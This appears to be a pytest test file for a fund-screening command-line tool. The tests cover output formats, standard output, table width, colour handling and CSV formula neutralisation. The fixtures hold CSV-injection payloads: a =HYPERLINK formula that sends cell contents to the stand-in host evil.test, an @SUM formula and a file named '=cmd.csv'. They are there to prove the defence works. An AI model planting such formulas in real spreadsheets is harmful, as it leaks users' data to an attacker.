"""Where and how commands write: the format follows the -o file's extension, `-o -` is standard
output, and a CSV opened in a spreadsheet never runs a formula from a user's file."""

from __future__ import annotations

import csv
import io
import json

import pytest

from smallcap_screen.vocabulary import RECORD_FIELDS
from tests.helpers import run

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"click me")'


@pytest.fixture
def store(tmp_path) -> str:
    return str(tmp_path / "store")


@pytest.fixture
def hostile_portfolio(tmp_path):
    """A user's portfolio whose holding names a spreadsheet would run, in a file named like a formula."""
    path = tmp_path / "=cmd.csv"
    with open(path, "w", newline="", encoding="utf-8") as file:
        csv.writer(file).writerows([["ticker", "weight", "name"], ["AAPL", "60", HYPERLINK], ["MSFT", "40", "@SUM(1+1)"]])
    return path


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(("name", "starts"), [("out.csv", "fund,name,index"), ("out.json", "["), ("out.txt", "")])
def test_the_format_follows_the_output_files_extension(tmp_path, store, name, starts):
    target = tmp_path / name
    result = run("compare", "IWM", "SPY", "--offline", "-o", str(target), "--data-dir", store)
    assert result.returncode == 0, result.stderr
    assert result.stdout == ""
    text = target.read_text(encoding="utf-8")
    assert text.startswith(starts)
    if name == "out.csv":
        assert list(read_csv(text)[0]) == RECORD_FIELDS
    if name == "out.txt":
        assert "IWM" in text and "SPY" in text and not text.lstrip().startswith(("[", "fund,"))


def test_format_given_wins_over_the_extension(tmp_path, store):
    target = tmp_path / "out.csv"
    assert run("compare", "IWM", "--offline", "-f", "json", "-o", str(target), "--data-dir", store).returncode == 0
    assert json.loads(target.read_text())[0]["fund"] == "IWM"


@pytest.mark.parametrize("name", ["out.xlsx", "out.parquet"])
def test_an_extension_of_a_format_not_written_is_a_usage_error_before_any_work(tmp_path, store, name):
    result = run("compare", "IWM", "--offline", "-o", str(tmp_path / name), "--data-dir", store)
    assert result.returncode == 2
    assert "files are not written; use .csv, .json, .txt" in result.stderr
    assert not (tmp_path / name).exists()


def test_dash_is_standard_output_and_creates_no_file(tmp_path, store):
    result = run("compare", "IWM", "--offline", "-f", "csv", "-o", "-", "--data-dir", store, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert read_csv(result.stdout)[0]["fund"] == "IWM"
    assert not (tmp_path / "-").exists()


def test_compare_csv_neutralises_a_formula_in_a_users_file_name(hostile_portfolio, store):
    result = run("compare", str(hostile_portfolio), "--offline", "-f", "csv", "--data-dir", store)
    assert result.returncode == 0, result.stderr
    [row] = read_csv(result.stdout)
    assert (row["fund"], row["name"]) == ("'=CMD", "'=cmd.csv")


def test_holdings_csv_neutralises_formulas_in_holding_names_and_keeps_numbers(tmp_path, hostile_portfolio, store):
    target = tmp_path / "holdings.csv"
    result = run("holdings", str(hostile_portfolio), "--offline", "-o", str(target), "--data-dir", store)
    assert result.returncode == 0, result.stderr
    rows = {r["ticker"]: r for r in read_csv(target.read_text(encoding="utf-8"))}
    assert rows["AAPL"]["name"] == "'" + HYPERLINK
    assert rows["MSFT"]["name"] == "'@SUM(1+1)"
    assert float(rows["AAPL"]["weight"]) == pytest.approx(0.6)


def test_holdings_json_keeps_names_as_given_and_figures_rounded(hostile_portfolio, store):
    result = run("holdings", str(hostile_portfolio), "--offline", "-f", "json", "--data-dir", store)
    assert result.returncode == 0, result.stderr
    rows = {r["ticker"]: r for r in json.loads(result.stdout)}
    assert rows["AAPL"]["name"] == HYPERLINK  # JSON is not read by spreadsheets: nothing to neutralise
    for row in rows.values():
        for field in ("pe_trailing", "pe_forward"):
            assert row[field] is None or row[field] == round(row[field], 4)


class Terminal(io.StringIO):
    """Standard output as a terminal would be: isatty() is true."""

    def isatty(self) -> bool:
        return True


def compare_table(env) -> str:
    from smallcap_screen.cli import main

    assert main(["compare", "IWM", "SPY", "--offline", "--data-dir", env.store], env.environment) == 0, env.environment.stderr.getvalue()
    return env.environment.stdout.getvalue()


def test_a_table_in_a_pipe_is_as_wide_as_columns_says_else_80(store, monkeypatch):
    from types import SimpleNamespace

    from smallcap_screen.cli.environment import Environment

    def piped(columns: str | None) -> str:
        if columns is None:
            monkeypatch.delenv("COLUMNS", raising=False)
        else:
            monkeypatch.setenv("COLUMNS", columns)
        environment = Environment.of_process(stdout=io.StringIO(), stderr=io.StringIO())
        return compare_table(SimpleNamespace(environment=environment, store=store))

    default, narrow, wide = piped(None), piped("80"), piped("120")
    assert default == narrow
    assert max(map(len, narrow.splitlines())) <= 80 < max(map(len, wide.splitlines())) <= 120


def test_no_color_leaves_a_terminal_table_without_any_style(store, monkeypatch):
    """NO_COLOR (https://no-color.org) also drops bold, italic (the title) and dim (the caption)."""
    from types import SimpleNamespace

    from smallcap_screen.cli.environment import Environment

    monkeypatch.setenv("COLUMNS", "120")
    monkeypatch.setenv("TERM", "xterm-256color")
    styled = Environment.of_process(stdout=Terminal(), stderr=io.StringIO())
    assert "\x1b[3m" in compare_table(SimpleNamespace(environment=styled, store=store))  # italic title
    monkeypatch.setenv("NO_COLOR", "1")
    plain = Environment.of_process(stdout=Terminal(), stderr=io.StringIO())
    assert "\x1b[" not in compare_table(SimpleNamespace(environment=plain, store=store))
